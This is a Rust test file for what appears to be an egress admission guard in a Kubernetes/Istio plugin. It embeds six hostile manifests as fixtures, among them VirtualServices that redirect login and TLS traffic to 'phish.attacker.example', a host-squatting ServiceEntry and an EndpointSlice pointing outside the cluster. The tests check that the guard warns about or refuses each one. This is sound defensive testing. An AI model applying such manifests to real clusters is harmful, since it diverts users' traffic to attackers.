//! The guard: what strangers write is refused by the API server itself, by a rule that is named, and what the plugin
//! writes is not.
//!
//! Each attack has its control: without the guard the same object is taken.

mod variations;

use std::process::Output;

use anyhow::{Context as _, ensure};

use super::super::harness::{ENDPOINT_WRITER, LIMIT, Mesh, SHOP, eventually, say};

pub(super) use variations::agree;

const HTTP: &str = "http://edition.cnn.com/";
const HTTPS: &str = "https://edition.cnn.com/";
const ADD: [&str; 4] = ["add", "edition.cnn.com", "-n", "shop"];

const SQUATTED: &str = "
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: squat, namespace: billing}
spec:
  hosts: [edition.cnn.com.shop.egress.internal]
  exportTo: [istio-system]
  location: MESH_EXTERNAL
  resolution: STATIC
  endpoints: [{address: 198.51.100.66}]
  ports: [{number: 80, name: http, protocol: HTTP}, {number: 443, name: tls, protocol: TLS}]
";

const YOUNGER: &str = "
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: hijack, namespace: billing}
spec:
  hosts: [edition.cnn.com]
  exportTo: [istio-system]
  gateways: [istio-system/kubectl-egress-istio-egressgateway]
  http:
  - match: [{uri: {prefix: /login}}]
    rewrite: {authority: phish.attacker.example}
    route: [{destination: {host: phish.attacker.example, port: {number: 80}}}]
";

const OLDER: &str = "
apiVersion: networking.istio.io/v1
kind: VirtualService
metadata: {name: pre, namespace: billing}
spec:
  hosts: [edition.cnn.com]
  exportTo: [istio-system]
  gateways: [kubectl-egress-istio-egressgateway.istio-system.svc.cluster.local]
  http:
  - route: [{destination: {host: phish.attacker.example, port: {number: 80}}}]
  tls:
  - match: [{port: 443, sniHosts: [edition.cnn.com]}]
    route: [{destination: {host: phish.attacker.example, port: {number: 443}}}]
";

/// Its wildcard fits the server name of the mesh mTLS of every host better than the `*` of the pair.
const SERVER: &str = "
apiVersion: networking.istio.io/v1
kind: Gateway
metadata: {name: server, namespace: billing}
spec:
  selector: {istio: egressgateway}
  servers: [{port: {number: 80, name: https, protocol: HTTPS}, tls: {mode: ISTIO_MUTUAL}, hosts: ['*.istio-system.svc.cluster.local']}]
";

const CLAIMED: &str = "
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata: {name: x-ngrok-io, namespace: billing, labels: {app.kubernetes.io/managed-by: kubectl-egress}}
spec: {hosts: [x.ngrok.io], exportTo: ['.', istio-system], location: MESH_EXTERNAL, resolution: DNS, ports: [{number: 443, name: tls, protocol: TLS}]}
";

const SLICE: &str = "
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata: {name: way-out, namespace: billing, labels: {kubernetes.io/service-name: way-out}}
addressType: IPv4
endpoints: [{addresses: [198.51.100.66]}]
ports: [{name: http, port: 80}]
";

/// Each attack with the rule that refuses it.
const ATTACKS: [(&str, &str); 6] = [
    (SQUATTED, "rule upstream-host"),
    (YOUNGER, "rule gateway-route"),
    (OLDER, "rule gateway-route"),
    (SERVER, "rule gateway-owner"),
    (CLAIMED, "rule record"),
    (SLICE, "rule outside-endpoints"),
];

/// Writes the guard, and takes it away again however the test ends.
fn guarded(mesh: &Mesh, flags: &[&str], test: impl FnOnce() -> anyhow::Result<()>) -> anyhow::Result<()> {
    let applied = mesh.done(&[&["guard", "apply", "-y"], &ENDPOINT_WRITER[..], flags].concat());
    let outcome = applied.and_then(|applied| {
        say(format_args!("  guard apply: {:.1} s", applied.elapsed.as_secs_f64()));
        test()
    });
    mesh.done(&["guard", "undo", "-y"])?;
    until_forgotten(mesh)?;
    outcome
}

/// The API server forgets a policy some time after it was deleted: the next test would be judged by it.
fn until_forgotten(mesh: &Mesh) -> anyhow::Result<()> {
    for (attack, _) in ATTACKS {
        eventually("the guard to be forgotten", LIMIT, || {
            let (_, said) = rehearse(mesh, attack, &[])?;
            ensure!(!said.contains("egress guard"), "{said}");
            Ok(())
        })?;
    }
    Ok(())
}

/// kubectl with objects on standard input, as `admin` or as somebody that it impersonates.
fn kubectl(mesh: &Mesh, arguments: &[&str], yaml: &str) -> anyhow::Result<Output> {
    use std::io::Write as _;
    let mut command = mesh.bed().command("kubectl");
    command.args(arguments).stdin(std::process::Stdio::piped());
    command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
    let mut child = command.spawn()?;
    // It may end without having read all of it: what it says then is looked at.
    let _ = child.stdin.take().context("no standard input")?.write_all(yaml.as_bytes());
    Ok(child.wait_with_output()?)
}

fn rehearse(mesh: &Mesh, yaml: &str, more: &[&str]) -> anyhow::Result<(bool, String)> {
    let output = kubectl(mesh, &[&["create", "--dry-run=server", "--filename=-"], more].concat(), yaml)?;
    Ok((output.status.success(), String::from_utf8_lossy(&output.stderr).into_owned()))
}

/// The attacks are taken without the guard, warned of with it, and refused with `--deny`.
pub(super) fn attacks(mesh: &Mesh) -> anyhow::Result<()> {
    for (attack, _) in ATTACKS {
        let (taken, said) = rehearse(mesh, attack, &[])?;
        ensure!(taken && !said.contains("egress guard"), "control: {said}");
    }
    guarded(mesh, &[], || {
        for (attack, rule) in ATTACKS {
            let (taken, said) = rehearse(mesh, attack, &[])?;
            ensure!(taken && said.contains(rule), "expected a warning of {rule}, found {said}");
        }
        let status = mesh.done(&["guard", "status", "-o", "json"])?.json()?;
        ensure!(status["state"] == "warn", "{status:#}");
        mesh.done(&["guard", "apply", "--deny", "-y"])?;
        for (attack, rule) in ATTACKS {
            let (taken, said) = rehearse(mesh, attack, &[])?;
            ensure!(!taken && said.contains(rule), "expected a refusal by {rule}, found {said}");
        }
        let status = mesh.done(&["guard", "status", "-o", "json"])?.json()?;
        ensure!(status["state"] == "deny", "{status:#}");
        // The users of the first command were kept: the bed's controllers go on.
        ensure!(status["endpointWriters"][0] == "kube-controller-manager", "{status:#}");
        Ok(())
    })
}

/// Everything that the plugin writes is taken: add, one more port, other layouts, other names, remove.
pub(super) fn healthy(mesh: &Mesh) -> anyhow::Result<()> {
    guarded(mesh, &["--deny"], || {
        mesh.done(&["add", "edition.cnn.com:443/TLS", "-n", "shop"])?;
        mesh.done(&ADD)?;
        mesh.expect_via_gateway(SHOP, HTTP)?;
        mesh.expect_via_gateway(SHOP, HTTPS)?;
        for layout in ["documented", "shared"] {
            mesh.done(&[&ADD[..], &["--layout", layout]].concat())?;
            mesh.expect_via_gateway(SHOP, HTTP)?;
        }
        mesh.done(&["add", "edition.cnn.com", "-n", "billing"])?;
        mesh.done(&["remove", "edition.cnn.com", "-n", "shop"])?;
        mesh.done(&["remove", "--all", "-n", "billing", "--prune", "-y"])?;
        // A Service's endpoints are written by the controller as before.
        mesh.apply(
            "{apiVersion: v1, kind: Service, metadata: {name: of-the-guard, namespace: shop}, \
             spec: {clusterIP: None, selector: {none: such}, ports: [{port: 80}]}}",
        )?;
        mesh.bed().kubectl(&["delete", "service", "of-the-guard", "--namespace=shop"]).map(drop)
    })
}

/// A gateway's owner lets an object through; a stranger cannot, and a deployment tool of another namespace neither.
pub(super) fn exempted(mesh: &Mesh) -> anyhow::Result<()> {
    let excused = YOUNGER.replace(
        "namespace: billing}",
        "namespace: billing, annotations: {kubectl-egress.github.io/bypass-guard: INC-4711}}",
    );
    guarded(mesh, &["--deny"], || {
        ensure!(rehearse(mesh, &excused, &[])?.0, "the owner's annotation counts");
        let platform = ["--as=platform"];
        let (taken, said) = rehearse(mesh, &excused, &platform)?;
        ensure!(!taken && said.contains("rule gateway-route"), "without the right: {said}");
        let tool = [
            "--as=system:serviceaccount:billing:tool",
            "--as-group=system:serviceaccounts",
            "--as-group=system:serviceaccounts:billing",
            "--as-group=system:masters",
        ];
        let (taken, said) = rehearse(mesh, &excused, &tool)?;
        ensure!(!taken && said.contains("rule gateway-route"), "a tool of another namespace: {said}");
        Ok(())
    })
}

/// What an older guard, an edited one and an interrupted run leave is told, and the next command mends it.
pub(super) fn mended(mesh: &Mesh) -> anyhow::Result<()> {
    let policy = "validatingadmissionpolicy/kubectl-egress-guard-gateways";
    let binding = "validatingadmissionpolicybinding/kubectl-egress-guard-gateways";
    let state = || -> anyhow::Result<String> {
        let status = mesh.plugin(&["guard", "status", "-o", "json"])?.json()?;
        Ok(status["state"].as_str().unwrap_or_default().to_owned())
    };
    ensure!(state()? == "absent" && mesh.plugin(&["guard", "status"])?.code == 1);
    ensure!(mesh.plugin(&["guard", "plan"])?.code == 3);
    guarded(mesh, &["--deny"], || {
        ensure!(mesh.plugin(&["guard", "plan"])?.code == 0, "nothing is pending");
        mesh.bed().kubectl(&["delete", binding])?;
        ensure!(state()? == "incomplete");
        mesh.done(&["guard", "apply", "-y"])?;
        ensure!(state()? == "deny");
        let edit = r#"[{"op": "replace", "path": "/spec/validations/0/expression", "value": "true"}]"#;
        mesh.bed().kubectl(&["patch", policy, "--type=json", "--patch", edit])?;
        let status = mesh.plugin(&["guard", "status"])?;
        ensure!(status.code == 1 && status.stdout.contains("edited"), "{}", status.stdout);
        // As a run leaves it that was killed in its trial.
        let left = mesh.bed().kubectl(&["get", policy, "--output=yaml"])?;
        let left: String = left
            .replace(
                "name: kubectl-egress-guard-gateways",
                "name: kubectl-egress-guard-gateways-trial-00000000",
            )
            .lines()
            .filter(|line| !line.contains("resourceVersion") && !line.contains("uid:"))
            .fold(String::new(), |text, line| text + line + "\n");
        mesh.apply(&left)?;
        mesh.done(&["guard", "apply", "-y"])?;
        ensure!(state()? == "deny");
        let names = mesh.bed().kubectl(&["get", "validatingadmissionpolicies", "--output=name"])?;
        ensure!(!names.contains("trial"), "{names}");
        Ok(())
    })?;
    let left = mesh.bed().kubectl(&[
        "get",
        "validatingadmissionpolicies,validatingadmissionpolicybindings",
        "--selector=kubectl-egress.github.io/admission",
        "--output=name",
    ])?;
    ensure!(left.trim().is_empty(), "undo left {left}");
    Ok(())
}
